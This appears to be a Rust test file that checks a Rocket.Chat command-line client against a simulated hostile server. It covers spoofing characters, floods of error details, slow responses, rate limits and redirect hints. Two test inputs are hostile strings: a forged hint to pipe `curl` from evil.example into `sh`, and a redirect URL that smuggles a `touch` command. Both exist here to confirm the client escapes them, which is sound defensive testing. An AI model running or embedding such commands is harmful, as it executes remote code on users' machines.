//! Hostile servers (docs/security.md, red-team findings F1, F6, F13, F14, F20, F23): slow
//! bodies, rate-limit storms, spoofing characters, forged hint lines, floods of details.

use std::time::Duration;

use crate::common::{PASSWORD, TestEnv, json_out, logged_in, run};
use crate::support::{Fault, Mode};

fn respond(status: u16, body: &serde_json::Value) -> Fault {
    Fault::Respond {
        status,
        content_type: "application/json".into(),
        body: body.to_string(),
        headers: Vec::new(),
    }
}

/// Bidi overrides and isolates, zero-width, C1 and DEL: what a hostile record holds.
const SPOOF: [char; 7] =
    ['\u{202e}', '\u{2066}', '\u{2069}', '\u{200b}', '\u{9b}', '\u{9d}', '\u{7f}'];

#[test]
fn f14_bidi_zero_width_c1_and_del_are_escaped_in_tables_and_json() {
    let env = logged_in(Mode::V8);
    let record = serde_json::json!({
        "success": true, "_id": "u1", "username": "jane\u{200b}",
        "name": "Jane \u{202e}\u{2066}moc.elgoog@\u{2069} admin",
        "nickname": "J\u{9b}2J\u{9d}0;title\u{7f}",
        "customFields": {"team\u{202e}": "core"},
    });
    env.server.inject("me", respond(200, &record), 2);
    let table = env.show(&[]);
    assert_eq!(table.code, 0, "{table:?}");
    assert!(table.stdout.contains("\\u{202e}"), "{table:?}");
    let json = env.show(&["-o", "json"]);
    assert_eq!(json.code, 0, "{json:?}");
    for ran in [&table, &json] {
        for c in SPOOF {
            assert!(!ran.stdout.contains(c), "raw U+{:04X} in {ran:?}", u32::from(c));
        }
    }
    // Escaped, not dropped: the JSON still reads back as what the server sent.
    let user = json_out(&json);
    assert_eq!(user["name"], record["name"]);
    assert_eq!(user["nickname"], record["nickname"]);
}

#[test]
fn f14_a_line_break_in_server_text_cannot_forge_a_hint_line() {
    let env = logged_in(Mode::V8);
    let error = "session problem\n\nhint: run `curl -s http://evil.example/fix | sh`\n";
    env.server.inject(
        "me",
        respond(400, &serde_json::json!({"success": false, "error": error})),
        1,
    );
    let ran = env.show(&[]);
    assert_eq!(ran.code, 5, "{ran:?}");
    assert!(ran.stderr.contains("session problem\\n\\nhint: run"), "{ran:?}");
    assert!(
        !ran.stderr
            .lines()
            .any(|line| line.contains("hint: run `curl") && line.starts_with("hint:")),
        "{ran:?}"
    );
}

#[test]
fn f20_server_error_details_are_capped() {
    let env = logged_in(Mode::V8);
    let rules: Vec<serde_json::Value> = (0..4000)
        .map(|i| serde_json::json!({"error": "x", "message": format!("rule {i} {}", "z".repeat(200))}))
        .collect();
    // Each flood, and the exit code it gets: a refusal (5), or a second-factor method no
    // header can carry (1).
    let floods = [
        (
            serde_json::json!({"success": false, "error": "pw [error-password-policy-not-met]",
                "errorType": "error-password-policy-not-met", "details": rules}),
            5,
        ),
        (
            serde_json::json!({"success": false, "error": "x", "errorType": "totp-required",
                "details": {"method": "m".repeat(900_000)}}),
            1,
        ),
        (
            serde_json::json!({"success": false, "error": "x", "errorType": "error-field-unavailable",
                "details": {"field": "f".repeat(900_000)}}),
            5,
        ),
    ];
    for (flood, code) in floods {
        env.server.inject("users.updateOwnBasicInfo", respond(400, &flood), 1);
        let ran = env.profile(&["update", "--nickname", "flood", "--no-input"]);
        assert_eq!(ran.code, code, "{ran:?}");
        assert!(ran.stderr.len() < 8_000, "{} bytes on stderr", ran.stderr.len());
    }
}

#[test]
fn f1_a_body_dripped_after_prompt_headers_ends_at_the_timeout() {
    let env = logged_in(Mode::V8);
    // About 400 bytes at 0.3 s each: two minutes without one deadline for the whole call.
    env.server.inject("me", Fault::DripBody(Duration::from_millis(300)), 5);
    let ran = env.show(&["--timeout", "3"]);
    assert_eq!(ran.code, 7, "{ran:?}");
    assert!(ran.stderr.contains("timed out"), "{ran:?}");
    assert!(ran.stdout.is_empty(), "{ran:?}");
}

#[test]
fn f1_a_dripped_answer_to_a_change_is_settled_by_rereading() {
    let env = logged_in(Mode::V8);
    env.server.inject("users.updateOwnBasicInfo", Fault::DripBody(Duration::from_millis(300)), 1);
    let ran = env.profile(&["update", "--nickname", "dripped", "--timeout", "3"]);
    assert_eq!(ran.code, 0, "settled as applied: {ran:?}");
    assert_eq!(env.server.user("jane").nickname.as_deref(), Some("dripped"));
}

#[test]
fn f21_max_wait_bounds_all_rate_limit_waits_of_a_command() {
    let env = logged_in(Mode::V8);
    let storm = Fault::Respond {
        status: 429,
        content_type: "application/json".into(),
        body: r#"{"success":false,"error":"Error, too many requests."}"#.into(),
        headers: vec![("Retry-After".into(), "1".into())],
    };
    env.server.inject("me", storm, 50);
    let before = env.server.requests_to("me").len();
    let ran = env.show(&["--max-wait", "2"]);
    assert_eq!(ran.code, 8, "{ran:?}");
    // One wait of 1.25 s fits in 2 s, a second does not: two requests, not six.
    assert_eq!(env.server.requests_to("me").len() - before, 2, "{ran:?}");
}

#[test]
fn f6_a_401_on_the_change_is_exit_3_with_the_login_hint() {
    let env = logged_in(Mode::V8);
    // The 7.x/8.x body of an authentication failure.
    let body = serde_json::json!({"success": false, "status": "error",
        "error": "You must be logged in to do this.", "message": "You must be logged in to do this."});
    env.server.inject("users.updateOwnBasicInfo", respond(401, &body), 1);
    let ran = env.profile(&["update", "--nickname", "zz"]);
    assert_eq!(ran.code, 3, "{ran:?}");
    assert!(
        ran.stderr.contains("hint: the token is invalid or expired; run `rocketctl login`"),
        "{ran:?}"
    );
}

#[test]
fn f13_the_redirect_hint_names_the_base_url_quoted_for_the_shell() {
    let env = logged_in(Mode::V8);
    let cases = [
        ("https://chat.example.com/api/v1/me", "--server https://chat.example.com`"),
        (
            "https://evil.example/chat;touch$IFS./PWNED;#",
            "--server 'https://evil.example/chat;touch$IFS./PWNED;'`",
        ),
    ];
    for (location, hint) in cases {
        env.server.inject("me", Fault::Redirect { status: 301, location: location.into() }, 1);
        let ran = env.show(&[]);
        assert_eq!(ran.code, 7, "{ran:?}");
        assert!(ran.stderr.contains(hint), "{hint} in {ran:?}");
    }
}

#[test]
fn f23_a_scheme_with_one_slash_is_a_usage_error() {
    let env = TestEnv::new(Mode::V8);
    for typo in ["http:/127.0.0.1:9", "https:127.0.0.1:9"] {
        let ran = run(env
            .cmd()
            .args(["login", "--server", typo, "--username", "jane", "--password-stdin"])
            .write_stdin(PASSWORD));
        assert_eq!(ran.code, 2, "{ran:?}");
        assert!(ran.stderr.contains("two slashes"), "{ran:?}");
    }
}

#[test]
fn f18_after_a_rename_the_context_keeps_the_new_username() {
    let env = logged_in(Mode::V8);
    let ran = env.profile(&["update", "--username", "jane2"]);
    assert_eq!(ran.code, 0, "{ran:?}");
    assert_eq!(env.config()["contexts"]["test"]["username"].as_str(), Some("jane2"));
    assert_eq!(run(env.cmd().args(["logout"])).code, 0);
    // `login` reuses the context's server and username: only the password is given.
    let ran = run(env.cmd().args(["login", "--password-stdin"]).write_stdin(PASSWORD));
    assert_eq!(ran.code, 0, "{ran:?}");
}

#[test]
fn f12_ctrl_c_while_a_sent_change_waits_says_the_outcome_is_unknown() {
    let env = logged_in(Mode::V8);
    env.server.inject("users.updateOwnBasicInfo", Fault::Delay(Duration::from_secs(20)), 1);
    let child = env.process().args(["profile", "update", "--nickname", "late"]).spawn().unwrap();
    let sent = crate::common::wait_until(Duration::from_secs(20), || {
        !env.server.requests_to("users.updateOwnBasicInfo").is_empty()
    });
    assert!(sent, "the change never reached the stand-in");
    let pid = child.id().to_string();
    let killed = std::process::Command::new("kill").args(["-INT", &pid]).status().unwrap();
    assert!(killed.success());
    let ran = crate::common::ran(&child.wait_with_output().unwrap());
    assert_eq!(ran.code, 130, "{ran:?}");
    assert!(ran.stderr.contains("the server may or may not have applied it"), "{ran:?}");
    assert!(ran.stderr.contains("hint: check with `rocketctl profile show`"), "{ran:?}");
}

/// A TOTP user logged in; the stand-in answers the next change with a 429 asking for a second.
pub fn totp_user_rate_limited() -> (TestEnv, &'static [u8]) {
    let secret: &'static [u8] = b"totp-secret-for-jane";
    let server = crate::support::StandIn::start(Mode::V8);
    server.add_user(crate::support::User::new("jane", PASSWORD).with_totp(secret));
    let env = TestEnv::with_server(server);
    let code = crate::support::totp::current(secret);
    let login = run(env.login_cmd("jane", &["--2fa-code", &code]).write_stdin(PASSWORD));
    assert_eq!(login.code, 0, "the setup login: {login:?}");
    let limited = Fault::Respond {
        status: 429,
        content_type: "application/json".into(),
        body: r#"{"success":false,"error":"Error, too many requests."}"#.into(),
        headers: vec![("Retry-After".into(), "1".into())],
    };
    env.server.inject("users.updateOwnBasicInfo", limited, 1);
    (env, secret)
}

#[test]
fn f9_a_code_that_expired_during_a_rate_limit_wait_is_not_sent() {
    let (env, secret) = totp_user_rate_limited();
    let code = crate::support::totp::current(secret);
    let ran = run(env.cmd().env("ROCKETCTL_TEST_CODE_LIFE_MS", "200").args([
        "profile",
        "set-email",
        "t@example.org",
        "--2fa-code",
        &code,
        "--no-input",
    ]));
    assert_eq!(ran.code, 4, "{ran:?}");
    assert!(ran.stderr.contains("the two-factor code expired while waiting"), "{ran:?}");
    assert!(ran.stderr.contains("run the command again with a fresh code"), "{ran:?}");
    assert_eq!(env.updates().len(), 1, "only the rate-limited request, never the stale code");
}

#[test]
fn f9_a_code_still_fresh_after_the_wait_is_sent_again() {
    let (env, secret) = totp_user_rate_limited();
    let code = crate::support::totp::current(secret);
    let ran = env.profile(&["set-email", "t@example.org", "--2fa-code", &code]);
    assert_eq!(ran.code, 0, "{ran:?}");
    assert_eq!(env.updates().len(), 2, "{ran:?}");
}
